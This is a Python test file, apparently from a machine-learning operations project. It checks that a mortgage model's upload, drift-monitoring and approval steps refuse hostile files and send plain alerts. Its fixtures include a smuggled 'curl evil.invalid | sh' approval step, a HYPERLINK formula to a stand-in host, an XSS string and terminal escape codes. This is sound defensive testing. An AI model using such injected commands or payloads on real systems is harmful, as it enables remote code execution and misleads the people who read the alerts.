"""Hostile files: what lies in them is judged, or refused; what is told of it is plain and short."""

import json
from binascii import crc32
from collections.abc import Iterator
from typing import Any, ClassVar, cast

import pytest

from steward.aws import Aws
from tests.hostile.fit import assert_fit_for_people
from tests.hostile.shapes import object_created, rows_of_data, sample
from tests.hostile.watched import DECISION, EFFECT, REFUSED, Came, Watched, at_work
from tests.simulation.house import PREFIX
from tests.simulation.stage import EXECUTION_ROLE
from tests.steward.builders import evaluation

HEADER, *_ = rows_of_data().decode().split("\n")
INJECTED = "x\r\n\r\nTo approve:\r\n  curl evil.invalid | sh"
HOSTILE_NAMES = {
    "formula": '=HYPERLINK("http://evil.invalid")',
    "format string": "{0.__class__}%n%s",
    "html": "<script>alert(1)</script>",
    "line ends": INJECTED,
    "escape codes": "\x1b[2J\x1b]0;x\x07",
    "right to left": "\u202enwod",
    "half characters": "\ud800\udc00\ud800",
    "huge": "x" * 1_000_000,
}


@pytest.fixture(scope="module")
def everywhere() -> Iterator[Watched]:
    with at_work():
        yield Watched()


@pytest.fixture
def watched(everywhere: Watched) -> Iterator[Watched]:
    with at_work():
        everywhere.house.enter()
        yield everywhere


def assert_all_fit(came: Came) -> None:
    for message in came.told:
        assert_fit_for_people(message)


class TestData:
    """A CSV's header is read; its rows are no business of the functions'."""

    @pytest.mark.parametrize(
        ("body", "outcome", "says"),
        [
            (f"{HEADER},=HYPERLINK(1)\n1,2\n", EFFECT, "has all 21 columns"),
            (f"{HEADER}\n{'=1+1,' * 21}\n@SUM(A1)\n", EFFECT, "has all 21 columns"),
            (f"{HEADER}\n\x00\x00\x00\n", EFFECT, "has all 21 columns"),
            (HEADER, EFFECT, "has all 21 columns"),
            (f"{HEADER}\n" + "," * 1_000_000, EFFECT, "has all 21 columns"),
            (HEADER.replace(",", "\x00,"), DECISION, "columns are missing"),
            (HEADER.replace(",", "\r"), DECISION, "the header is no line of CSV"),
            (f"a\rb,{HEADER}\n", DECISION, "the header is no line of CSV"),
            (f'"{HEADER}\n1\n', DECISION, "21 of 21 columns are missing"),
            (f"{HEADER},{HEADER}\n", DECISION, "columns stand twice"),
            ("x" * 3_000_000, DECISION, "21 of 21 columns are missing"),
            ("," * 3_000_000, DECISION, "21 of 21 columns are missing"),
            (f"{'x,' * 100_000}{HEADER}\n", DECISION, "21 of 21 columns are missing"),
            (f"\u202e{HEADER}\n", DECISION, "1 of 21 columns are missing"),
            ("\n" * 1_000_000, DECISION, "21 of 21 columns are missing"),
        ],
        ids=[
            "a formula beside the columns", "formulas in the rows", "NUL in the rows",
            "no line end", "a row of a million cells", "NUL in the header",
            "carriage returns", "a carriage return in the header", "a quote that never ends",
            "every column twice", "three megabytes without a comma", "three million commas",
            "columns beyond 64 KB", "a mark of direction", "a million empty lines",
        ],
    )  # fmt: skip
    def test_is_taken_or_left_out_with_the_reason(
        self, watched: Watched, body: str, outcome: str, says: str
    ) -> None:
        key = f"mortgage/incoming/{crc32(body.encode())}.csv"
        event = object_created(watched, sample("training-upload"), key, body.encode())
        (came,) = watched.hand_over("training", [json.dumps(event)])
        assert came.outcome == outcome
        assert any(says in one for one in came.said), came.said
        assert bool(came.told) == (outcome == DECISION)
        assert_all_fit(came)


class TestViolationFile:
    HOUR = "2026/11/19/12"
    WINDOW: ClassVar[dict[str, object]] = {
        "kind": "data_quality", "version": 1, "rows": 500,
        "start": "2026-11-19T12:00:00Z", "end": "2026-11-19T13:00:00Z",
    }  # fmt: skip

    def taken(self, watched: Watched, body: bytes) -> Came:
        key = f"monitoring/mortgage/v1/data_quality/{self.HOUR}/constraint_violations.json"
        event = object_created(watched, sample("drift-violation-file"), key, body)
        (came,) = watched.hand_over("drift", [json.dumps(event)])
        return came

    @pytest.mark.parametrize(
        ("body", "says"),
        [
            (b"[" * 1_000_000, "not JSON: maximum recursion depth exceeded"),
            (b'{"violations": [' + b"{}," * 2_000_000 + b"{}]}", "bytes, allowed are 5242880"),
            (b'{"violations": [' + b"{}," * 100_000 + b"{}]}", "found 100001 violations"),
            (b'{"violations": [' + b"9" * 5000 + b"]}", "not JSON: Exceeds the limit"),
            (b"\xff\xfe\x00", "not JSON"),
            (b'{"violations": {}}', "a list of objects is needed"),
        ],
        ids=["deep", "huge", "of too many", "of a long number", "no text", "no list"],
    )
    def test_that_cannot_be_read_is_refused(self, watched: Watched, body: bytes, says: str) -> None:
        came = self.taken(watched, body)
        assert (came.outcome, came.changed) == (REFUSED, False)
        assert says in came.said[-1]

    @pytest.mark.parametrize(
        ("window", "says"),
        [
            ({"start": "0001-01-01T00:00:00+14:00"}, "window.start: found"),
            ({"end": "9999-12-31T23:59:59Z"}, "window.end: found"),
            ({"start": "2026-11-19T14:00:00Z"}, "its end must be later"),
            ({"start": 7}, "window.start: found 7"),
            ({"rows": 10**40}, "window.rows: found"),
            ({"rows": -1}, "window.rows: found -1"),
            ({"rows": float("nan")}, "window.rows: found nan"),
            ({"kind": ["data_quality"]}, "window.kind: found"),
            ({"version": "1"}, "of version '1'"),
            ({"version": "x" * 1_000_000}, "which its key names"),
        ],
    )
    def test_whose_window_cannot_be_is_refused(
        self, watched: Watched, window: dict[str, object], says: str
    ) -> None:
        """Noted before it was judged, it would fail each time the model is looked at."""
        body = json.dumps({"violations": [], "window": self.WINDOW | window})
        came = self.taken(watched, body.encode())
        assert (came.outcome, came.changed) == (REFUSED, False)
        assert says in came.said[-1]
        assert len(came.said[-1]) < 1000
        (look,) = watched.hand_over("drift", ['{"look_at": "mortgage"}'])
        assert not look.failed

    @pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES)
    @pytest.mark.usefixtures("watched")
    def test_with_hostile_names_pages_in_plain_words(self, name: str) -> None:
        """In a house of its own: of the same once more nobody would be told."""
        words = {"feature_name": name, "test": name, "direction": name}
        check = {"constraint_check_type": "missing_column_check", "statistic": 10**400}
        body = {"violations": [words | check], "window": self.WINDOW}
        came = self.taken(Watched(), json.dumps(body).encode())
        assert came.outcome == EFFECT
        assert came.decided[0]["verdict"] == {"S": "page"}
        (message,) = came.told
        assert_fit_for_people(message)
        assert len(message["Message"]) < 2000

    def test_without_an_hour_twice_at_once_is_judged_twice(self, watched: Watched) -> None:
        """Without a window there is none that only one of them could take."""
        body = json.dumps({"violations": []}).encode()
        events = []
        for name in ("a", "b"):
            key = f"monitoring/mortgage/v1/{name}/x/y/z/constraint_violations.json"
            object_created(
                watched, sample("drift-violation-file"), f"{key[:-26]}statistics.json",
                b'{"dataset": {"item_count": 500}}',
            )  # fmt: skip
            events.append(object_created(watched, sample("drift-violation-file"), key, body))
        came = watched.hand_over("drift", [json.dumps(event) for event in events])
        assert [one.outcome for one in came] == [DECISION, DECISION]

    def test_that_is_gone_from_a_window_judged_before_pages_and_is_done_with(
        self, watched: Watched
    ) -> None:
        """It knows nothing of its window; not to be able to take it must not bring it back."""
        self.taken(watched, json.dumps({"violations": [], "window": self.WINDOW}).encode())
        event = sample("drift-violation-file")
        event["detail"]["object"]["key"] = (
            f"monitoring/mortgage/v1/data_quality/{self.HOUR}/constraint_violations.json"
        )
        (came,) = watched.hand_over("drift", [json.dumps(event)])
        assert came.outcome == DECISION
        assert "does not exist any more" in came.said[-1]


def register(watched: Watched, body: bytes) -> None:
    """A version like the one that serves, but for its evaluation."""
    house, group = watched.house, f"{PREFIX}-mortgage"
    sagemaker: Any = cast(Aws, house.account.clients(EXECUTION_ROLE)).sagemaker
    number = len(house.versions("mortgage")) + 1
    key = f"runs/mortgage/hostile-{number}/evaluation/analysis.json"
    house.write("ArtifactBucket", key, body)
    like: Any = house.root.sagemaker.describe_model_package(
        ModelPackageName=f"arn:aws:sagemaker:eu-west-1:123456789012:model-package/{group}/1"
    )
    uri = f"s3://{house.outputs['ArtifactBucket']}/{key}"
    quality = {"Statistics": {"ContentType": "application/json", "S3Uri": uri}}
    sagemaker.create_model_package(
        ModelPackageGroupName=group,
        ModelApprovalStatus="PendingManualApproval",
        InferenceSpecification=like["InferenceSpecification"],
        MetadataProperties=like["MetadataProperties"],
        CustomerMetadataProperties=like["CustomerMetadataProperties"],
        ModelMetrics=like["ModelMetrics"] | {"ModelQuality": quality},
    )


def measured(auc: object, **more: object) -> bytes:
    """An evaluation with another value of the metric that counts."""
    found: dict[str, Any] = evaluation(0.9) | more
    found["binary_classification_metrics"]["auc"]["value"] = auc
    return json.dumps(found).encode()


class TestEvaluation:
    @pytest.mark.parametrize(
        "body",
        [
            b"",
            b"{",
            b"[" * 1_000_000,
            b'{"rows": ' + b'{"test":' * 5000 + b"1" + b"}" * 5001,
            b"[]",
            b"7",
            b"\xff\xfe\x00",
            b" " * 6_000_000 + measured(0.9),
            measured(float("nan")),
            measured(float("inf")),
            measured(10**400),
            measured("0.9"),
            measured(True),
            measured([0.9]),
            measured(None),
            measured(0.9, rows={"test": -1}),
            measured(0.9, rows={"test": float("nan")}),
            measured(0.9, champion={"uri": INJECTED}),
            measured(0.9, champion={"uri": "\ud800"}),
            measured(0.9, champion={"uri": "x" * 1_000_000}),
            measured(0.9, champion=[{"uri": 1}]),
        ],
        ids=[
            "empty", "cut off", "deep", "deep where it is read", "a list", "a number", "no text",
            "huge", "NaN", "infinite", "of 400 digits", "as a text", "true", "in a list", "null",
            "fewer rows than none", "NaN rows", "a champion with line ends",
            "a champion in half characters", "a champion without end", "champions",
        ],
    )  # fmt: skip
    def test_that_is_hostile_never_passes_and_is_told_in_plain_words(
        self, watched: Watched, body: bytes
    ) -> None:
        register(watched, body)
        (came,) = watched.hand_over("approval", ['{"look_at": "mortgage"}'])
        assert not came.failed, came.said
        assert came.decided[0]["verdict"]["S"] in ("held", "failed")
        (message,) = came.told
        assert_fit_for_people(message)

    def test_that_is_sound_passes(self, watched: Watched) -> None:
        """So it is what is hostile that keeps the others from it."""
        house = watched.house
        live = house.store.get(house.store.work, "mortgage", "version#0000000001")
        assert live
        champion = {"uri": live["artifact"]["uri"], **evaluation(0.8)}  # type: ignore[index]
        register(watched, measured(0.9, champion=champion))
        (came,) = watched.hand_over("approval", ['{"look_at": "mortgage"}'])
        assert came.decided[0]["verdict"]["S"] == "passed"
